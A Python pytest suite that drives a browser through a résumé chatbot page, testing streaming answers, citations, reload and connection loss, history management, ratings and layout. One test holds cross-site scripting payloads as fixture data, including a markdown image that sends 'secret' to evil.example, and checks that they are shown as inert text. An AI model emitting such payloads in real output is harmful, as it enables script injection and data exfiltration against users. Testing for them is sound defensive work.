"""The chat page in a real browser: it streams, shows sources, survives a reload and a lost connection, keeps a history."""

import json
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
import pytest_asyncio

from fakes.browser import Browser, Page, running_browser
from fakes.history_client import HistoryClient, visiting
from fakes.parts import GatedGenerator
from fakes.service import Service, serving, until_true

QUESTION = "What did Ines do at Harbour Systems?"


@pytest.fixture
def generator() -> GatedGenerator:
    return GatedGenerator()


@pytest.fixture
async def service(tmp_path: Path, generator: GatedGenerator) -> AsyncIterator[Service]:
    async with serving(tmp_path / "data", generator=generator) as running:
        yield running


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Browser]:
    """One browser for all tests: it takes long to start."""
    async with running_browser(tmp_path_factory.mktemp("browser")) as running:
        yield running


@pytest.fixture
async def page(browser: Browser, service: Service) -> AsyncIterator[Page]:
    """The open chat page; at the end, nothing must have gone wrong in it or been asked of anybody else."""
    async with browser.page() as open_page:
        await open_page.goto(service.url)
        await open_page.until("document.querySelectorAll('.chip').length")
        yield open_page
        assert open_page.problems == []
        assert [url for url in open_page.requests if not url.startswith(service.url)] == []


def lose_connections(service: Service) -> None:
    """Cuts every connection without a word."""
    for connection in list(service.server.server_state.connections):
        connection.transport.abort()


async def test_a_visitor_is_told_who_answers_asks_and_opens_a_source(page: Page, generator: GatedGenerator) -> None:
    assert await page.evaluate("document.getElementById('name').textContent") == "Ines Varga"
    assert "a machine" in str(await page.evaluate("document.getElementById('disclosure').textContent"))
    assert await page.evaluate("document.querySelector('.chip').textContent") == QUESTION
    await page.evaluate("document.querySelector('.chip').click()")
    generator.gate.put_nowait("She built the **berth planner** [")
    await page.until("document.querySelector('.body strong')?.textContent === 'berth planner'")
    assert await page.evaluate("document.querySelector('.caret') !== null")
    assert "[" not in str(await page.evaluate("document.querySelector('.body').textContent")), (
        "half a citation was shown"
    )
    assert await page.evaluate("document.getElementById('stop').hidden") is False
    generator.say("4], and more [5].")
    await page.until("document.querySelectorAll('.sources .cite').length === 2")
    assert await page.evaluate("document.querySelector('.caret')") is None
    assert await page.evaluate("document.getElementById('stop').hidden") is True
    await page.evaluate("document.querySelector('.body .cite').click()")
    await page.until("!document.getElementById('card').hidden")
    assert (
        await page.evaluate("document.getElementById('card-quote').textContent") == "Built the berth planner in Python"
    )
    assert await page.evaluate("document.getElementById('card-pointer').textContent") == "/work/0/highlights/0"
    await page.escape()
    await page.until("document.getElementById('card').hidden")
    assert await page.evaluate("document.activeElement.className") == "cite"


async def test_a_reload_in_mid_answer_loses_nothing(page: Page, service: Service, generator: GatedGenerator) -> None:
    await page.evaluate("document.querySelector('.chip').click()")
    generator.gate.put_nowait("The first half ")
    await page.until("document.querySelector('.body')?.textContent.startsWith('The first half')")
    await page.goto(service.url)
    await page.until("document.querySelector('.body')?.textContent.startsWith('The first half')")
    assert await page.evaluate("document.querySelector('.asked').textContent") == QUESTION
    generator.say("and the second.")
    await page.until("document.querySelector('.foot')")
    assert await page.evaluate("document.querySelector('.body').textContent") == "The first half and the second."
    await page.goto(service.url)
    await page.until("document.querySelector('.foot')")
    assert await page.evaluate("document.querySelectorAll('.message').length") == 2


async def test_a_lost_connection_in_mid_answer_loses_nothing(
    page: Page, service: Service, generator: GatedGenerator
) -> None:
    await page.evaluate("document.querySelector('.chip').click()")
    generator.gate.put_nowait("One ")
    await page.until("document.querySelector('.body')?.textContent.startsWith('One')")
    for word in ("two ", "three ", "four "):
        lose_connections(service)
        generator.gate.put_nowait(word)
        await page.until(f"document.querySelector('.body').textContent.includes('{word.strip()}')")
    generator.say("five.")
    await page.until("document.querySelector('.foot')")
    assert await page.evaluate("document.querySelector('.body').textContent") == "One two three four five."
    assert len(generator.prompts) == 1


async def test_a_visitor_stops_an_answer_and_asks_on(page: Page, generator: GatedGenerator) -> None:
    await page.evaluate("document.querySelector('.chip').click()")
    generator.gate.put_nowait("Half of it ")
    await page.until("document.querySelector('.body')?.textContent.startsWith('Half')")
    await page.evaluate("document.getElementById('stop').click()")
    await page.until("document.querySelector('.aside')?.textContent === 'You stopped this answer.'")
    generator.say("The next.")
    await page.evaluate("document.getElementById('question').focus()")
    await page.type(QUESTION)
    await page.until("document.querySelectorAll('.foot').length === 2")
    assert await page.evaluate("document.querySelectorAll('.body')[1].textContent") == "The next."


async def test_what_breaks_is_told_and_can_be_tried_again(page: Page, generator: GatedGenerator) -> None:
    await page.evaluate("document.querySelector('.chip').click()")
    generator.gate.put_nowait(RuntimeError("a bug"))
    await page.until("document.querySelector('.trouble button')")
    assert "Something went wrong" in str(await page.evaluate("document.querySelector('.trouble').textContent"))
    generator.say("Now it works.")
    await page.evaluate("document.querySelector('.trouble button').click()")
    await page.until("document.querySelector('.foot')")
    assert "Now it works." in str(await page.evaluate("document.getElementById('messages').textContent"))


async def test_whatever_a_model_says_is_shown_as_text(page: Page, generator: GatedGenerator) -> None:
    """T58: no script runs, nothing is asked of another host."""
    payloads = (
        "<img src=x onerror=\"document.title='won'\"> <script>document.title='won'</script> "
        "![x](https://evil.example/?q=secret) [click](javascript:alert(1)) <iframe srcdoc='<script>1</script>'></iframe>"
    )
    await page.evaluate("document.querySelector('.chip').click()")
    generator.say(payloads)
    await page.until("document.querySelector('.foot')")
    assert await page.evaluate("document.querySelector('.body').textContent") == payloads
    assert (
        await page.evaluate("document.querySelectorAll('.body img, .body script, .body iframe, .body a').length") == 0
    )
    assert await page.evaluate("document.title") == "Ines Varga · Ask the resume"


async def test_a_spoilt_token_is_forgotten_and_the_visitor_is_a_new_one(page: Page, service: Service) -> None:
    await page.evaluate("localStorage.setItem('resume-chat', JSON.stringify({token: 'spoilt'}))")
    await page.goto(service.url)
    await page.until("JSON.parse(localStorage.getItem('resume-chat')).token?.length === 43")
    await page.until("document.querySelectorAll('.chip').length")


@pytest.mark.parametrize("width", [320, 390, 1180])
async def test_nothing_sticks_out_of_the_window(page: Page, generator: GatedGenerator, width: int) -> None:
    await page.look(width=width, height=800, is_phone=width < 600)
    generator.say("A" * 400 + " [4] and https://example.com/" + "b" * 300)
    await page.evaluate("document.querySelector('.chip').click()")
    await page.until("document.querySelector('.foot')")
    assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    await page.evaluate("document.getElementById('open-history').click()")
    await page.until("document.querySelector('#history-list .delete')")
    await page.evaluate("document.querySelector('#history-list .delete').click()")
    await page.evaluate("document.getElementById('history-erase').click()")
    assert await page.evaluate(
        "[...document.querySelectorAll('#history, #history *')].every((each) => each.scrollWidth <= innerWidth "
        "&& each.getBoundingClientRect().right <= innerWidth && each.getBoundingClientRect().bottom <= innerHeight)"
    )


@pytest.fixture
async def visitor(page: Page, service: Service, generator: GatedGenerator) -> AsyncIterator[HistoryClient]:
    """The page's visitor, with two conversations, seen from behind; the page shows the older one."""
    async with visiting(service, generator) as client:
        client.token = str(await page.evaluate("JSON.parse(localStorage.getItem('resume-chat')).token"))
        shown, _ = await client.asked(QUESTION, "Berth planners [4].")
        await client.asked("What did Ines cut?", "The nightly import [5].")
        await page.evaluate(
            f"localStorage.setItem('resume-chat', JSON.stringify({{token: '{client.token}', conversation: '{shown}'}}))"
        )
        await page.goto(service.url)
        await page.until("document.querySelector('.foot')")
        yield client


async def open_history(page: Page, count: int) -> None:
    await page.evaluate("document.getElementById('open-history').click()")
    await page.until(f"document.querySelectorAll('#history-list .open').length === {count}")


async def titles(visitor: HistoryClient) -> list[str]:
    return [each["title"] for each in (await visitor.get("/conversations"))["items"]]


async def test_conversations_are_found_renamed_and_deleted(page: Page, visitor: HistoryClient) -> None:
    """By the keyboard: what has the focus after each step is where a visitor goes on."""
    await open_history(page, 2)
    assert await page.evaluate("document.querySelector('[aria-current]').textContent.startsWith('What did Ines do')")
    await page.evaluate("document.getElementById('history-search').focus()")
    await page.insert("berth plan")
    await page.until("document.getElementById('history-status').textContent === '1 conversation found'")
    await page.insert(" nowhere")
    await page.until("document.getElementById('history-status').textContent === 'Nothing was said in these words.'")
    await page.evaluate("document.getElementById('history').close()")
    await open_history(page, 2)
    await page.evaluate("document.querySelector('#history-list .rename').click()")
    await page.insert("Not this")
    await page.escape()
    assert await page.evaluate("document.activeElement.getAttribute('aria-label')") == "Rename: What did Ines cut?"
    await page.evaluate("document.activeElement.click()")
    await page.type("For the interview")
    await page.until("document.activeElement.getAttribute('aria-label') === 'Rename: For the interview'")
    assert await titles(visitor) == ["For the interview", QUESTION]
    await page.evaluate("document.querySelectorAll('#history-list .delete')[1].click()")
    assert await page.evaluate("document.activeElement.textContent") == "Keep"
    await page.escape()
    await page.evaluate("document.activeElement.click()")
    await page.evaluate("document.querySelector('#history-list .is-grave').click()")
    await page.until("document.querySelectorAll('#history-list li').length === 1")
    assert await page.evaluate("document.activeElement.textContent.startsWith('For the interview')")
    assert await page.evaluate("document.querySelectorAll('.message').length") == 0, "what is shown was deleted"
    assert await titles(visitor) == ["For the interview"]
    await page.evaluate("document.activeElement.click()")
    await page.until("document.querySelector('.asked')?.textContent === 'What did Ines cut?'")


async def test_a_long_list_comes_page_by_page(page: Page, visitor: HistoryClient) -> None:
    for number in range(30):
        await visitor.call("POST", "/conversations", json={"title": f"Number {number}"}, expect=201)
    await open_history(page, 30)
    await page.evaluate("document.getElementById('history-more').click()")
    await page.until("document.querySelectorAll('#history-list .open').length === 32")
    assert await page.evaluate("document.getElementById('history-more').hidden") is True
    assert await page.evaluate("document.activeElement.textContent.startsWith('What did Ines cut?')")


async def test_an_answer_is_rated_with_one_click(page: Page, service: Service, visitor: HistoryClient) -> None:
    """A rating that is not kept must not look as if it were."""
    pressed = "[...document.querySelectorAll('.thumbs button')].map((each) => each.getAttribute('aria-pressed')).join()"
    await page.evaluate("document.querySelector('.thumbs .down').click()")
    await page.until("document.querySelector('.said-so').textContent === 'Thank you.'")
    await page.goto(service.url)
    await page.until(f"{pressed} === 'false,true'")
    conversation_id = (await visitor.get("/conversations"))["items"][1]["id"]
    (_, answer) = (await visitor.get(f"/conversations/{conversation_id}/messages"))["items"]
    assert answer["feedback"]["rating"] == "down"
    await visitor.call("DELETE", f"/conversations/{conversation_id}", expect=204)
    await page.evaluate("document.querySelector('.thumbs .up').click()")
    await page.until("document.querySelector('.said-so').textContent === 'That could not be kept.'")
    assert await page.evaluate(pressed) == "false,true"
    assert "404" in page.problems.pop()


async def test_everything_is_taken_along_and_erased_after_one_question(
    page: Page, visitor: HistoryClient, tmp_path: Path
) -> None:
    await page.call("Page.setDownloadBehavior", behavior="allow", downloadPath=str(tmp_path))
    await open_history(page, 2)
    await page.evaluate("document.getElementById('history-export').click()")
    file = tmp_path / "resume-chat-export.json"

    async def is_there() -> bool:
        return file.is_file() and file.stat().st_size > 0

    await until_true(is_there)
    assert json.loads(file.read_text()) == await visitor.get("/visitor/export")
    await page.evaluate("document.getElementById('history-erase').click()")
    assert await page.evaluate("document.activeElement.textContent") == "Keep"
    await page.escape()
    assert await page.evaluate("document.activeElement.id") == "history-erase"
    assert len(await titles(visitor)) == 2
    await page.evaluate("document.activeElement.click()")
    await page.evaluate("document.querySelector('footer .asking .is-grave').click()")
    await page.until("document.getElementById('history-status').textContent.includes('erased')")
    assert await titles(visitor) == []
    assert await page.evaluate("document.querySelectorAll('.message, #history-list li').length") == 0
    assert await page.evaluate("JSON.parse(localStorage.getItem('resume-chat')).conversation") is None


async def test_the_reference_page_draws_every_operation(page: Page, service: Service) -> None:
    async with httpx.AsyncClient(trust_env=False) as http:
        paths = (await http.get(f"{service.url}/schema/openapi.json")).json()["paths"]
    count = sum(len(operations.keys() & {"get", "post", "put", "patch", "delete"}) for operations in paths.values())
    await page.goto(f"{service.url}/schema")
    await page.until(f"document.querySelectorAll('section h2').length === {count}")
    assert await page.evaluate(f"document.querySelectorAll('section pre').length >= {2 * count}")
